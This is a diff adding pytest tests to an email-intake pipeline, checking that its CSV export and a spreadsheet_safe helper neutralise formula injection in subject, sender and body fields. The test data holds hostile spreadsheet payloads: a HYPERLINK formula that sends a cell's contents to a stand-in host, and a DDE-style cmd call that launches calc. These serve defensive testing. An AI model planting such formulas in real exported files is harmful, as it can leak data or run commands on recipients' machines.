@@ -5,11 +5,13 @@ from __future__ import annotations
 import csv
 import io
 import json
+from email.utils import formataddr
 from pathlib import Path
 
 import pytest
 from conftest import maildir_config, nested_message, seed_maildir, story_message
 
+from intake.report import spreadsheet_safe
 from run_pipeline import main
 from triage.acknowledge import reference
 
@@ -31,3 +33,33 @@ def test_report_export_has_reference_and_mailbox_in_jsonl_and_csv(
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert rows[0]["reference"] == story["reference"]
     assert rows[0]["mailbox"] == story["mailbox"]
+
+
+HOSTILE = ('=HYPERLINK("http://example.net/x?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd",
+           "@SUM(1+1)*cmd")  # fmt: skip
+
+
+def test_report_csv_export_keeps_hostile_cells_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = maildir_config(tmp_path)
+    for n, bad in enumerate(HOSTILE):
+        message = story_message(n, sender=formataddr((bad, f"p{n}@example.org")),
+                                body=f"{bad} The GP and the council never shared my notes.")
+        subject = f"Subject: My story number {n}".encode()
+        seed_maildir(tmp_path / "mailbox", message.replace(subject, f"Subject: {bad}".encode()))
+    assert main(["--config", str(config), "once"]) == 0
+    capsys.readouterr()
+    assert main(["--config", str(config), "export", "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert len(rows) == len(HOSTILE)
+    for row in rows:
+        for column in ("subject", "sender_name", "text"):
+            assert row[column][0] == "'" and row[column][1] in "=+-@", (column, row[column])
+    assert sorted(row["subject"][1:] for row in rows) == sorted(HOSTILE)  # nothing else changed
+
+
+@pytest.mark.parametrize("start", ["\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_report_spreadsheet_safe_covers_control_and_full_width_starts(start: str) -> None:
+    assert spreadsheet_safe(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
+    assert spreadsheet_safe(f"a{start}") == f"a{start}"  # only the first character counts
